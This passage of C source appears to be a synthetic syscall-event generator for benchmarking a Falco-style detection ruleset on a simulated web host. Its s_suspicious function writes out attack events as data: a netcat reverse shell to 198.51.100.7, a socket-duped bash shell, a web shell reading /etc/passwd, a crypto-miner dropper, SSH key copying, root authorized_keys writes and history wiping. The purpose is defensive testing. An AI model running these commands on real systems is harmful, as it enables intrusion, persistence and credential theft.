	e_close(c, f);
	e_close(c, s);
	e_unlinkat(c, "/home/alice/src/shop/.app.py.swp", 0);
	e_open_close(c, "/home/alice/.viminfo.tmp", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC);
	e_renameat2(c, "/home/alice/.viminfo.tmp", "/home/alice/.viminfo");
}

static void b_curl(struct proc *c, const char *name)
{
	(void)name;
	e_open_close(c, "/etc/nsswitch.conf", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(c, "/etc/hosts", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(c, "/etc/resolv.conf", PPM_O_RDONLY | PPM_O_CLOEXEC);
	int d = e_socket(c, 2, 2, 17);
	uint8_t ns[4] = {10, 0, 0, 2};
	e_connect(c, d, IP_HOST, ns, 53, 0);
	e_close(c, d);
	e_open_close(c, "/etc/ssl/certs/ca-certificates.crt", PPM_O_RDONLY);
	int s = e_socket(c, 2, 1, 6);
	uint8_t dst[4] = {93, 184, 216, 34};
	e_connect(c, s, IP_HOST, dst, 443, -115);
	e_close(c, s);
}

static void b_python(struct proc *c, const char *name)
{
	(void)name;
	static const char *m[] = {"/usr/lib/python3.11/encodings/__pycache__/__init__.cpython-311.pyc",
				  "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc",
				  "/usr/lib/python3.11/__pycache__/site.cpython-311.pyc",
				  "/usr/lib/python3.11/__pycache__/json.cpython-311.pyc",
				  "/usr/lib/python3.11/__pycache__/re.cpython-311.pyc",
				  "/usr/lib/python3/dist-packages/requests/__pycache__/api.cpython-311.pyc",
				  "/home/alice/src/shop/manage.py",
				  "/usr/lib/python3.11/lib-dynload/_ssl.cpython-311-x86_64-linux-gnu.so"};
	int n = 8 + (int)rnd(16);
	for (int i = 0; i < n; i++)
		e_open_close(c, PICK(m), PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_openat(c, "/usr/lib/python3.11/__pycache__/typing.cpython-311.opt-1.pyc", PPM_O_RDONLY | PPM_O_CLOEXEC,
		 ENOENT_NEG);
}

static void b_ssh(struct proc *c, const char *name)
{
	(void)name;
	e_open_close(c, "/etc/ssh/ssh_config", PPM_O_RDONLY);
	e_open_close(c, "/home/alice/.ssh/config", PPM_O_RDONLY);
	e_open_close(c, "/home/alice/.ssh/known_hosts", PPM_O_RDONLY);
	e_open_close(c, "/home/alice/.ssh/id_ed25519", PPM_O_RDONLY);
	int s = e_socket(c, 2, 1, 6);
	uint8_t dst[4] = {10, 0, 5, 12};
	e_connect(c, s, IP_HOST, dst, 22, 0);
	e_close(c, s);
}

static void b_sudo(struct proc *c, const char *name)
{
	(void)name;
	e_open_close(c, "/etc/sudoers", PPM_O_RDONLY);
	e_open_close(c, "/etc/sudoers.d/90-cloud-init-users", PPM_O_RDONLY);
	e_open_close(c, "/etc/pam.d/sudo", PPM_O_RDONLY);
	e_open_close(c, "/etc/passwd", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(c, "/etc/shadow", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_setid(c, FC_PPME_SYSCALL_SETGID_X, "gid", 0);
	e_setresuid(c, 0);
	int lg = e_openat(c, "/var/log/sudo.log", PPM_O_WRONLY | PPM_O_APPEND | PPM_O_CREAT, 0);
	e_close(c, lg);
	/* sudo systemctl status nginx */
	struct proc g = e_clone(c, false);
	static const char a[] = "status\0nginx\0";
	e_execve(&g, "systemctl", "/usr/bin/systemctl", "systemctl", a, sizeof a - 1, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
	e_ldso(&g, 3);
	e_open_close(&g, "/run/systemd/units/invocation:nginx.service", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_procexit(&g);
}

static void b_make(struct proc *c, const char *name)
{
	(void)name;
	e_open_close(c, "/home/alice/src/shop/Makefile", PPM_O_RDONLY);
	for (int i = 0; i < 2; i++) {
		struct proc g = e_clone(c, false);
		static const char a[] = "-c\0python3 -m pytest -q tests\0";
		e_execve(&g, "/bin/sh", "/usr/bin/dash", "sh", a, sizeof a - 1, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
		e_ldso(&g, 0);
		struct proc h = e_clone(&g, false);
		static const char b[] = "-m\0pytest\0-q\0tests\0";
		e_execve(&h, "python3", "/usr/bin/python3.11", "python3", b, sizeof b - 1, ENV_ALICE, sizeof ENV_ALICE - 1,
			 0);
		e_ldso(&h, 2);
		b_python(&h, "python3");
		e_mkdirat(&h, "/home/alice/src/shop/.pytest_cache", -17);
		e_open_close(&h, "/home/alice/src/shop/.pytest_cache/v/cache/lastfailed",
			     PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC | PPM_O_CLOEXEC);
		e_procexit(&h);
		e_procexit(&g);
	}
}

static void s_interactive(void)
{
	static const struct {
		const char *name, *path, *args;
		void (*body)(struct proc *, const char *);
		int weight;
	} cmds[] = {
		{"ls", "/usr/bin/ls", "--color=auto -la", b_ls, 16},
		{"cat", "/usr/bin/cat", "README.md", b_files, 8},
		{"grep", "/usr/bin/grep", "--color=auto -rn TODO shop", b_files, 10},
		{"git", "/usr/bin/git", "status --short", b_git, 12},
		{"git", "/usr/bin/git", "diff HEAD~1 -- shop/views.py", b_git, 6},
		{"ps", "/usr/bin/ps", "aux", b_ps, 4},
		{"vim", "/usr/bin/vim.basic", "app.py", b_vim, 5},
		{"less", "/usr/bin/less", "/var/log/nginx/access.log", b_files, 4},
		{"curl", "/usr/bin/curl", "-sS https://example.com/health", b_curl, 5},
		{"python3", "/usr/bin/python3.11", "manage.py check", b_python, 6},
		{"ssh", "/usr/bin/ssh", "deploy@10.0.5.12", b_ssh, 3},
		{"sudo", "/usr/bin/sudo", "systemctl status nginx", b_sudo, 3},
		{"make", "/usr/bin/make", "test", b_make, 2},
		{"head", "/usr/bin/head", "-n 50 shop/models.py", b_files, 4},
		{"tail", "/usr/bin/tail", "-n 100 /var/log/nginx/access.log", b_files, 4},
		{"wc", "/usr/bin/wc", "-l shop/views.py", b_files, 3},
		{"date", "/usr/bin/date", "+%s", NULL, 3},
		{"id", "/usr/bin/id", "-u", NULL, 2},
	};
	int total = 0;
	for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++)
		total += cmds[i].weight;
	int k = (int)rnd((uint32_t)total);
	size_t i = 0;
	while (k >= cmds[i].weight)
		k -= cmds[i++].weight;
	bool pipe = chance(0.25);
	run_cmd(&P_bash, cmds[i].name, cmds[i].path, cmds[i].args, pipe, cmds[i].body);
	if (pipe) {
		/* ... | grep / less at the other end: modelled as a second child */
		static const char *args[] = {"-v grep", "-i error", "-c 200"};
		run_cmd(&P_bash, "grep", "/usr/bin/grep", PICK(args), false, NULL);
	}
}

static void s_threads(void)
{
	struct proc *w = &P_gunicorn_w[rnd(4)];
	if (chance(0.8)) {
		struct proc t = e_clone(w, true);
		e_open_close(&t, "/app/static/i18n/en.json", PPM_O_RDONLY | PPM_O_CLOEXEC);
		e_procexit(&t);
	} else {
		/* gunicorn master respawns a worker (max_requests reached): in the pod's pid namespace */
		struct proc c = e_clone(&P_gunicorn, false);
		e_open_close(&c, "/app/gunicorn.conf.py", PPM_O_RDONLY | PPM_O_CLOEXEC);
		int e = e_eventfd2(&c);
		e_close(&c, e);
		e_procexit(&c);
	}
}

static void s_cron(void)
{
	struct proc c = e_clone(&P_cron, false);
	e_open_close(&c, "/etc/passwd", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(&c, "/etc/pam.d/cron", PPM_O_RDONLY);
	ev_begin(FC_PPME_SYSCALL_SETSID_X, c.tid);
	p_int("res", c.pid);
	ev_end();
	e_setid(&c, FC_PPME_SYSCALL_SETGID_X, "gid", 0);
	e_setid(&c, FC_PPME_SYSCALL_SETUID_X, "uid", 0);
	struct proc sh = e_clone(&c, false);
	static const char a[] = "-c\0   cd / && run-parts --report /etc/cron.hourly\0";
	e_execve(&sh, "/bin/sh", "/usr/bin/dash", "sh", a, sizeof a - 1, ENV_SYS, sizeof ENV_SYS - 1, 0);
	e_ldso(&sh, 0);
	struct proc rp = e_clone(&sh, false);
	static const char b[] = "--report\0/etc/cron.hourly\0";
	e_execve(&rp, "run-parts", "/usr/bin/run-parts", "run-parts", b, sizeof b - 1, ENV_SYS, sizeof ENV_SYS - 1, 0);
	e_ldso(&rp, 0);
	e_open_close(&rp, "/etc/cron.hourly", PPM_O_RDONLY | PPM_O_DIRECTORY | PPM_O_CLOEXEC);
	struct proc lr = e_clone(&rp, false);
	static const char d[] = "/etc/logrotate.conf\0";
	e_execve(&lr, "/usr/sbin/logrotate", "/usr/sbin/logrotate", "logrotate", d, sizeof d - 1, ENV_SYS,
		 sizeof ENV_SYS - 1, 0);
	e_ldso(&lr, 2);
	e_open_close(&lr, "/etc/logrotate.conf", PPM_O_RDONLY);
	e_open_close(&lr, "/etc/logrotate.d", PPM_O_RDONLY | PPM_O_DIRECTORY);
	e_open_close(&lr, "/etc/logrotate.d/nginx", PPM_O_RDONLY);
	e_open_close(&lr, "/var/lib/logrotate/status", PPM_O_RDONLY);
	e_unlinkat(&lr, "/var/log/nginx/access.log.14.gz", 0);
	e_renameat2(&lr, "/var/log/nginx/access.log.1", "/var/log/nginx/access.log.2");
	e_renameat2(&lr, "/var/log/nginx/access.log", "/var/log/nginx/access.log.1");
	e_open_close(&lr, "/var/log/nginx/access.log", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC | PPM_O_F_CREATED);
	e_fchmodat(&lr, "/var/log/nginx/access.log", 0640);
	e_open_close(&lr, "/var/lib/logrotate/status.tmp", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC | PPM_O_F_CREATED);
	e_renameat2(&lr, "/var/lib/logrotate/status.tmp", "/var/lib/logrotate/status");
	e_procexit(&lr);
	e_procexit(&rp);
	e_procexit(&sh);
	e_procexit(&c);
}

static void s_sshd_attempt(void)
{
	uint8_t cli[4];
	ip4(cli, 45 + rnd(150), rnd(256), rnd(256), 1 + rnd(250));
	int c = e_accept4(&P_sshd, cli, IP_HOST, 22);
	struct proc s = e_clone(&P_sshd, false);
	static const char a[] = "-D\0-R\0";
	e_execve(&s, "sshd-session", "/usr/lib/openssh/sshd-session", "sshd-session", a, sizeof a - 1, ENV_SYS,
		 sizeof ENV_SYS - 1, 0);
	e_ldso(&s, 3);
	e_open_close(&s, "/etc/ssh/sshd_config", PPM_O_RDONLY);
	e_open_close(&s, "/etc/passwd", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(&s, "/etc/shadow", PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(&s, "/etc/pam.d/sshd", PPM_O_RDONLY);
	e_setid(&s, FC_PPME_SYSCALL_SETGID_X, "gid", 65534);
	e_setid(&s, FC_PPME_SYSCALL_SETUID_X, "uid", 65534);
	e_procexit(&s);
	e_close(&P_sshd, c);
}

/* Activity the default rules report. */
static void s_suspicious(void)
{
	static char a[512];
	size_t al;
	switch (rnd(10)) {
	case 0: { /* sudo cat /etc/shadow (cat is not a shadow reader) */
		struct proc c = e_clone(&P_bash, false);
		al = evv_nul_list("/etc/shadow", ' ', a, sizeof a);
		c.uid = 0;
		e_execve(&c, "cat", "/usr/bin/cat", "cat", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
		e_ldso(&c, 0);
		e_open_close(&c, "/etc/shadow", PPM_O_RDONLY);
		e_procexit(&c);
		break;
	}
	case 1: /* private key read by a non-ssh program */
		run_cmd(&P_bash, "cp", "/usr/bin/cp", "/home/alice/.ssh/id_ed25519 /tmp/k", false, NULL);
		e_open_close(&P_bash, "/home/alice/.ssh/id_rsa", PPM_O_RDONLY);
		break;
	case 2: { /* web shell: a shell under gunicorn */
		struct proc *w = &P_gunicorn_w[rnd(4)];
		struct proc c = e_clone(w, false);
		al = evv_nul_list("-c id;uname -a;cat /etc/passwd", ' ', a, sizeof a);
		e_execve(&c, "/bin/sh", "/bin/dash", "sh", a, al, ENV_CTR, sizeof ENV_CTR - 1, 0);
		e_open_close(&c, "/etc/passwd", PPM_O_RDONLY);
		e_procexit(&c);
		break;
	}
	case 3: { /* dropper in /tmp */
		struct proc c = e_clone(&P_bash, false);
		al = evv_nul_list("-o stratum+tcp://pool.example:3333", ' ', a, sizeof a);
		e_execve(&c, "/tmp/.cache/kworkerd", "/tmp/.cache/kworkerd", "kworkerd", a, al, ENV_ALICE,
			 sizeof ENV_ALICE - 1, 0);
		int s = e_socket(&c, 2, 1, 6);
		uint8_t d[4] = {198, 51, 100, 7};
		e_connect(&c, s, IP_HOST, d, 3333, 0);
		e_close(&c, s);
		e_procexit(&c);
		break;
	}
	case 4: { /* nc -e */
		struct proc c = e_clone(&P_bash, false);
		al = evv_nul_list("-e /bin/sh 198.51.100.7 4444", ' ', a, sizeof a);
		e_execve(&c, "nc", "/usr/bin/nc.traditional", "nc", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
		e_ldso(&c, 0);
		int s = e_socket(&c, 2, 1, 6);
		uint8_t d[4] = {198, 51, 100, 7};
		e_connect(&c, s, IP_HOST, d, 4444, 0);
		e_procexit(&c);
		break;
	}
	case 5: { /* reverse shell: socket dup'ed onto stdio */
		struct proc c = e_clone(&P_bash, false);
		int s = e_socket(&c, 2, 1, 6);
		uint8_t d[4] = {198, 51, 100, 7};
		e_connect(&c, s, IP_HOST, d, 4444, 0);
		for (int fd = 0; fd < 3; fd++)
			e_dup2(&c, s, fd);
		al = evv_nul_list("-i", ' ', a, sizeof a);
		e_execve(&c, "bash", "/usr/bin/bash", "bash", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
		e_procexit(&c);
		break;
	}
	case 6: { /* docker exec -it nginx bash */
		struct proc c = P_nginx;
		c.tid = c.pid = next_pid++;
		c.ptid = P_shim_nginx.tid;
		c.vtid = c.vpid = 30 + rnd(1000);
		c.tty = 34817;
		c.uid = 0;
		ev_begin(FC_PPME_SYSCALL_CLONE_20_X, c.tid);
		clone_params(&P_shim_nginx, 0, &c, 0x20000000u | 0x1800000u);
		ev_end();
		al = evv_nul_list("", ' ', a, sizeof a);
		e_execve(&c, "bash", "/usr/bin/bash", "bash", a, al, ENV_CTR, sizeof ENV_CTR - 1, 0);
		e_ldso(&c, 1);
		e_open_close(&c, "/root/.bashrc", PPM_O_RDONLY);
		e_procexit(&c);
		break;
	}
	case 7: /* persistence below /etc */
		run_cmd(&P_bash, "tee", "/usr/bin/tee", "/etc/cron.d/backup", false, NULL);
		e_open_close(&P_bash, "/etc/cron.d/backup", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC | PPM_O_F_CREATED);
		break;
	case 8: { /* authorized_keys written as root */
		struct proc c = e_clone(&P_bash, false);
		c.uid = 0;
		al = evv_nul_list("-a /root/.ssh/authorized_keys", ' ', a, sizeof a);
		e_execve(&c, "tee", "/usr/bin/tee", "tee", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
		e_open_close(&c, "/root/.ssh/authorized_keys", PPM_O_WRONLY | PPM_O_APPEND | PPM_O_CREAT);
		e_procexit(&c);
		break;
	}
	default: /* history wiped */
		e_unlinkat(&P_bash, "/home/alice/.bash_history", 0);
		e_open_close(&P_bash, "/home/alice/.bash_history", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC);
		break;
	}
}

/* Scenario weights per 1000 draws (see the top of the file). */
static const struct {
	void (*fn)(void);
	uint32_t weight;
} scenarios[] = {
	{s_nginx_request, 330}, {s_api_request, 220}, {s_monitoring, 270}, {s_containerd, 110}, {s_interactive, 45},
	{s_threads, 10},        {s_cron, 4},          {s_sshd_attempt, 6}, {s_suspicious, 5},
};

static void generate(uint64_t nevents)
{
	while (S.n < nevents) {
		uint32_t k = rnd(1000), i = 0;
		while (i + 1 < sizeof scenarios / sizeof scenarios[0] && k >= scenarios[i].weight)
			k -= scenarios[i++].weight;
		scenarios[i].fn();
	}
}

/* ------------------------------------------------------------------ seeding */

static void setp(struct proc *p, int64_t tid, int64_t pid, int64_t ptid, int64_t vtid, const char *comm,
		 const char *exe, const char *args, size_t alen, const char *cwd, uint32_t uid, const char *cg)
{
	memset(p, 0, sizeof *p);
	p->tid = tid;
	p->pid = pid;
	p->ptid = ptid;
	p->vtid = vtid;
	p->vpid = vtid;
	p->comm = comm;
	p->exe = exe;
	p->exepath = exe;
	p->args = args;
	p->alen = alen;
	p->cwd = cwd;
	p->uid = p->gid = uid;
	p->loginuid = UINT32_MAX;
	p->cgroup = cg;
	p->fds[0] = 7; /* stdio */
}

#define A(s) s, sizeof(s) - 1

static void build_world(void)
{
	make_cg_blobs();
	setp(&P_systemd, 1, 1, 0, 1, "systemd", "/usr/lib/systemd/systemd", A("--system\0--deserialize\00031\0"), "/",
	     0, "/init.scope");
	setp(&P_journald, 450, 450, 1, 450, "systemd-journal", "/usr/lib/systemd/systemd-journald", A(""), "/", 0,
	     "/system.slice/systemd-journald.service");
	setp(&P_logind, 520, 520, 1, 520, "systemd-logind", "/usr/lib/systemd/systemd-logind", A(""), "/", 0,
	     "/system.slice/systemd-logind.service");
	setp(&P_nodeexp, 950, 950, 1, 950, "node_exporter", "/usr/bin/prometheus-node-exporter",
	     A("--collector.systemd\0--web.listen-address=:9100\0"), "/", 65534,
	     "/system.slice/prometheus-node-exporter.service");
	setp(&P_cron, 610, 610, 1, 610, "cron", "/usr/sbin/cron", A("-f\0-P\0"), "/var/spool/cron", 0,
	     "/system.slice/cron.service");
	setp(&P_sshd, 700, 700, 1, 700, "sshd", "/usr/sbin/sshd", A("-D\0"), "/", 0, "/system.slice/ssh.service");
	setp(&P_sess_root, 1200, 1200, 700, 1200, "sshd-session", "/usr/lib/openssh/sshd-session", A("-D\0-R\0"), "/",
	     0, "/user.slice/user-1000.slice/session-3.scope");
	setp(&P_sess_alice, 1201, 1201, 1200, 1201, "sshd-session", "/usr/lib/openssh/sshd-session", A("-D\0-R\0"),
	     "/", 1000, "/user.slice/user-1000.slice/session-3.scope");
	setp(&P_bash, 1202, 1202, 1201, 1202, "bash", "-bash", A(""), "/home/alice/src/shop", 1000, cg_paths[0]);
	P_bash.exepath = "/usr/bin/bash";
	P_bash.tty = 34816;
	P_bash.loginuid = P_sess_alice.loginuid = 1000;
	setp(&P_containerd, 800, 800, 1, 800, "containerd", "/usr/bin/containerd", A(""), "/", 0,
	     "/system.slice/containerd.service");
	setp(&P_shim_nginx, 2000, 2000, 1, 2000, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
	     A("-namespace\0moby\0-id\0" CTR_NGINX_ID "\0-address\0/run/containerd/containerd.sock\0"), "/", 0,
	     "/system.slice/containerd.service");
	setp(&P_nginx, 2001, 2001, 2000, 1, "nginx", "/usr/sbin/nginx", A("-g\0daemon off;\0"), "/", 0, CG_NGINX);
	for (int i = 0; i < 4; i++) {
		setp(&P_nginx_w[i], 2002 + i, 2002 + i, 2001, 29 + i, "nginx", "/usr/sbin/nginx", A("-g\0daemon off;\0"),
		     "/", 101, CG_NGINX);
		P_nginx_w[i].fds[0] |= 0xf8; /* 3,4 logs; 6,7 listeners; 5 eventpoll */
	}
	P_nginx.fds[0] |= 0xf8;
	setp(&P_shim_api, 2100, 2100, 1, 2100, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
	     A("-namespace\0k8s.io\0-id\0" CTR_API_ID "\0-address\0/run/containerd/containerd.sock\0"), "/", 0,
	     "/system.slice/containerd.service");
	setp(&P_gunicorn, 2101, 2101, 2100, 1, "gunicorn", "/usr/local/bin/python3.11",
	     A("/usr/local/bin/gunicorn\0-w\0004\0-b\0000.0.0.0:8000\0shop.wsgi\0"), "/app", 1000, CG_API);
	for (int i = 0; i < 4; i++) {
		setp(&P_gunicorn_w[i], 2102 + i, 2102 + i, 2101, 7 + i, "gunicorn", "/usr/local/bin/python3.11",
		     A("/usr/local/bin/gunicorn\0-w\0004\0-b\0000.0.0.0:8000\0shop.wsgi\0"), "/app", 1000, CG_API);
		P_gunicorn_w[i].fds[0] |= 0x38; /* 3 listener, 4 pg pool, 5 redis */
	}
	P_gunicorn.fds[0] |= 0x8;
	P_journald.fds[0] |= 0xffff8; /* journal files, sockets */
	P_sshd.fds[0] |= 0x18;
	P_cron.fds[0] |= 0x8;
}

static struct proc *all_procs(size_t i)
{
	struct proc *ps[] = {&P_systemd,      &P_journald,     &P_logind,       &P_nodeexp,      &P_cron,
			     &P_sshd,         &P_sess_root,    &P_sess_alice,   &P_bash,         &P_containerd,
			     &P_shim_nginx,   &P_nginx,        &P_nginx_w[0],   &P_nginx_w[1],   &P_nginx_w[2],
			     &P_nginx_w[3],   &P_shim_api,     &P_gunicorn,     &P_gunicorn_w[0], &P_gunicorn_w[1],
			     &P_gunicorn_w[2], &P_gunicorn_w[3]};
	return i < sizeof ps / sizeof ps[0] ? ps[i] : NULL;
}

static void seed_fd(struct fc_state *st, const struct proc *p, int fd, uint8_t type, const char *name)
{
	struct fc_cap_fd f = evv_fd_entry(p->tid, fd, type, 5000 + (uint64_t)fd, name);
	fc_state_seed_fd(st, &f);
}

static void seed_listener(struct fc_state *st, const struct proc *p, int fd, const uint8_t ip[4], uint16_t port)
{
	struct fc_cap_fd f = evv_fd_entry(p->tid, fd, FC_FD_IPV4_SERVSOCK, 0, "");
	f.l4proto = 2; /* SCAP_L4_TCP */
	memcpy(f.sip, ip, 4);
	f.sport = port;
	fc_state_seed_fd(st, &f);
}

static void seed_state(struct fc_state *st)
{
	for (size_t i = 0; all_procs(i); i++) {
		const struct proc *p = all_procs(i);
		struct fc_cap_proc c;
		memset(&c, 0, sizeof c);
		c.version = 9;
		c.has = 0x1ffff;
		c.tid = (uint64_t)p->tid;
		c.pid = (uint64_t)p->pid;
		c.ptid = (uint64_t)p->ptid;
		c.sid = c.vpgid = c.pgid = p->pid;
		c.comm = evv_cs(p->comm, strlen(p->comm));
		c.exe = evv_cs(p->exe, strlen(p->exe));
		c.exepath = evv_cs(p->exepath, strlen(p->exepath));
		c.args = evv_cs(p->args, p->alen);
		c.cwd = evv_cs(p->cwd, strlen(p->cwd));
		c.fdlimit = 1024;
		c.uid = p->uid;
		c.gid = p->gid;
		c.vmsize_kb = 20000;
		c.vmrss_kb = 8000;
		if (p == &P_bash)
			c.env = evv_cs(ENV_ALICE, sizeof ENV_ALICE - 1);
		else if (!strcmp(p->cgroup, CG_API))
			c.env = evv_cs(ENV_CTR, sizeof ENV_CTR - 1);
		else
			c.env = evv_cs(ENV_SYS, sizeof ENV_SYS - 1);
		c.vtid = p->vtid;
		c.vpid = p->vpid;
		const char *cg;
		c.cgroups = evv_cs(NULL, 0);
		size_t cgl = cgroups_of(p, &cg);
		char *copy = malloc(cgl); /* cgroups_of may reuse a static buffer */
		memcpy(copy, cg, cgl);
		c.cgroups = evv_cs(copy, cgl);
		c.root = evv_cs("/", 1);
		c.tty = p->tty;
		c.loginuid = p->loginuid;
		c.cap_effective = c.cap_permitted = p->uid == 0 ? 0x1ffffffffffull : 0;
		c.pidns_init_start_ts = 1716990000000000000ull;
		fc_state_seed_proc(st, &c);
		free(copy);
		if (p->tty)
			for (int fd = 0; fd < 3; fd++)
				seed_fd(st, p, fd, FC_FD_FILE_V2, "/dev/pts/0");
		else
			for (int fd = 0; fd < 3; fd++)
				seed_fd(st, p, fd, FC_FD_FILE_V2, "/dev/null");
	}
	uint8_t any[4] = {0, 0, 0, 0};
	for (int i = 0; i < 4; i++) {
		seed_fd(st, &P_nginx_w[i], 3, FC_FD_FILE_V2, "/var/log/nginx/access.log");
		seed_fd(st, &P_nginx_w[i], 4, FC_FD_FILE_V2, "/var/log/nginx/error.log");
		seed_fd(st, &P_nginx_w[i], 5, FC_FD_EVENTPOLL, "");
		seed_listener(st, &P_nginx_w[i], 6, any, 80);
		seed_listener(st, &P_nginx_w[i], 7, any, 443);
		seed_listener(st, &P_gunicorn_w[i], 3, any, 8000);
	}
	seed_listener(st, &P_sshd, 3, any, 22);
	seed_listener(st, &P_sshd, 4, any, 22);
	for (int fd = 3; fd < 20; fd++)
		seed_fd(st, &P_journald, fd, FC_FD_FILE_V2, "/var/log/journal/8f3a/system.journal");
}

/* ------------------------------------------------------------------ fake host root */

static char host_root[256];
static char meta_path[300];

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	if (!f)
		die("%s: %s", path, strerror(errno));
	fputs(text, f);
	fclose(f);
}

static void mkdirs(const char *path)
{
	char tmp[512];
	snprintf(tmp, sizeof tmp, "%s", path);
	for (char *p = tmp + 1; *p; p++)
		if (*p == '/') {
			*p = 0;
			mkdir(tmp, 0755);
			*p = '/';
		}
	mkdir(tmp, 0755);
}

static void make_host_root(void)
{
	snprintf(host_root, sizeof host_root, "%s/vm_mix.XXXXXX", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (!mkdtemp(host_root))
		die("mkdtemp: %s", strerror(errno));
	char p[512];
	snprintf(p, sizeof p, "%s/etc", host_root);
	mkdirs(p);
	static const char passwd[] = "root:x:0:0:root:/root:/bin/bash\n"
				     "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
				     "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
				     "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
				     "systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin\n"
				     "messagebus:x:100:107::/nonexistent:/usr/sbin/nologin\n"
				     "sshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n"
				     "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n"
				     "deploy:x:1001:1001::/home/deploy:/bin/bash\n";
	static const char group[] = "root:x:0:\ndaemon:x:1:\nadm:x:4:alice\nwww-data:x:33:\nsudo:x:27:alice\n"
				    "nogroup:x:65534:\nalice:x:1000:\ndeploy:x:1001:\n";
	snprintf(p, sizeof p, "%s/etc/passwd", host_root);
	write_file(p, passwd);
	snprintf(p, sizeof p, "%s/etc/group", host_root);
	write_file(p, group);
	static const char cpasswd[] = "root:x:0:0:root:/root:/bin/sh\nnginx:x:101:101:nginx:/nonexistent:/bin/false\n"
				      "app:x:1000:1000::/app:/bin/sh\n";
	static const char cgroup[] = "root:x:0:\nnginx:x:101:\napp:x:1000:\n";
	for (size_t i = 0; all_procs(i); i++) {
		const struct proc *q = all_procs(i);
		if (strcmp(q->cgroup, CG_NGINX) && strcmp(q->cgroup, CG_API))
			continue;
		snprintf(p, sizeof p, "%s/proc/%" PRId64 "/root/etc", host_root, q->pid);
		mkdirs(p);
		snprintf(p, sizeof p, "%s/proc/%" PRId64 "/root/etc/passwd", host_root, q->pid);
		write_file(p, cpasswd);
		snprintf(p, sizeof p, "%s/proc/%" PRId64 "/root/etc/group", host_root, q->pid);
		write_file(p, cgroup);
	}
	snprintf(meta_path, sizeof meta_path, "%s/containers.json", host_root);
	write_file(meta_path,
		   "[{\"Id\":\"" CTR_NGINX_ID "\",\"Name\":\"/web\",\"Image\":\"sha256:aa11\","
		   "\"Config\":{\"Image\":\"docker.io/library/nginx:1.25.4\",\"Labels\":{\"maintainer\":\"NGINX\"}},"
		   "\"HostConfig\":{\"Privileged\":false,\"NetworkMode\":\"bridge\"},"
		   "\"Mounts\":[{\"Source\":\"/srv/www\",\"Destination\":\"/usr/share/nginx/html\",\"Mode\":\"ro\","
		   "\"RW\":false,\"Propagation\":\"rprivate\"}],"
		   "\"NetworkSettings\":{\"IPAddress\":\"172.17.0.2\"},\"State\":{\"StartedAt\":\"2024-05-29T10:00:00Z\"}},"
		   "{\"Id\":\"" CTR_API_ID "\",\"Name\":\"/k8s_api_api-7d9f8b6c5-x2lqz_shop_6f1c2d3e\",\"Image\":\"sha256:bb22\","
		   "\"Config\":{\"Image\":\"registry.example.com/shop/api:2.3.1\",\"Labels\":{"
		   "\"io.kubernetes.pod.name\":\"api-7d9f8b6c5-x2lqz\",\"io.kubernetes.pod.namespace\":\"shop\","
		   "\"io.kubernetes.pod.uid\":\"6f1c2d3e-4a5b-6c7d-8e9f-0a1b2c3d4e5f\"}},"
		   "\"HostConfig\":{\"Privileged\":false,\"NetworkMode\":\"container:abc\"},\"Mounts\":[],"
		   "\"NetworkSettings\":{\"IPAddress\":\"\"},\"State\":{\"StartedAt\":\"2024-05-29T09:00:00Z\"}}]\n");
}

static void rm_host_root(void)
{
	if (!host_root[0])
		return;
	char cmd[600];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", host_root);
	if (system(cmd) != 0)
		fprintf(stderr, "vm_mix: could not remove %s\n", host_root);
}

static struct fc_state *new_state(void)
{
	struct fc_state_opts o;
	fc_state_opts_default(&o);
	o.host_root = host_root;
	o.hostname = "bench-node-01";
	o.boot_ts = 1716990000000000000ull;
	struct fc_state *st = fc_state_new(&o);
	if (!st)
		die("fc_state_new failed");
	char err[256];
	if (fc_state_load_container_meta(st, meta_path, err, sizeof err))
		die("container metadata: %s", err);
	seed_state(st);
	return st;
}

/* ------------------------------------------------------------------ rules */

/* The default ruleset with its rules copied COPIES-1 more times under new names (macros and
 * lists once): what `--rules N` measures. */
static char *replicate_rules(const char *text, size_t len, int copies, size_t *outlen)
{
	size_t cap = len * (size_t)copies + 4096, n = 0;
	char *out = malloc(cap);
	if (!out)
		die("out of memory");
	memcpy(out, text, len);
	n = len;
	if (n && out[n - 1] != '\n')
		out[n++] = '\n';
	for (int k = 2; k <= copies; k++) {
		const char *p = text, *end = text + len;
		bool in_rule = false;
		while (p < end) {
			const char *nl = memchr(p, '\n', (size_t)(end - p));
			size_t ll = nl ? (size_t)(nl - p) + 1 : (size_t)(end - p);
			if (ll >= 2 && p[0] == '-' && p[1] == ' ')
				in_rule = ll > 8 && !strncmp(p, "- rule: ", 8);
			if (in_rule) {
				if (n + ll + 64 > cap) {
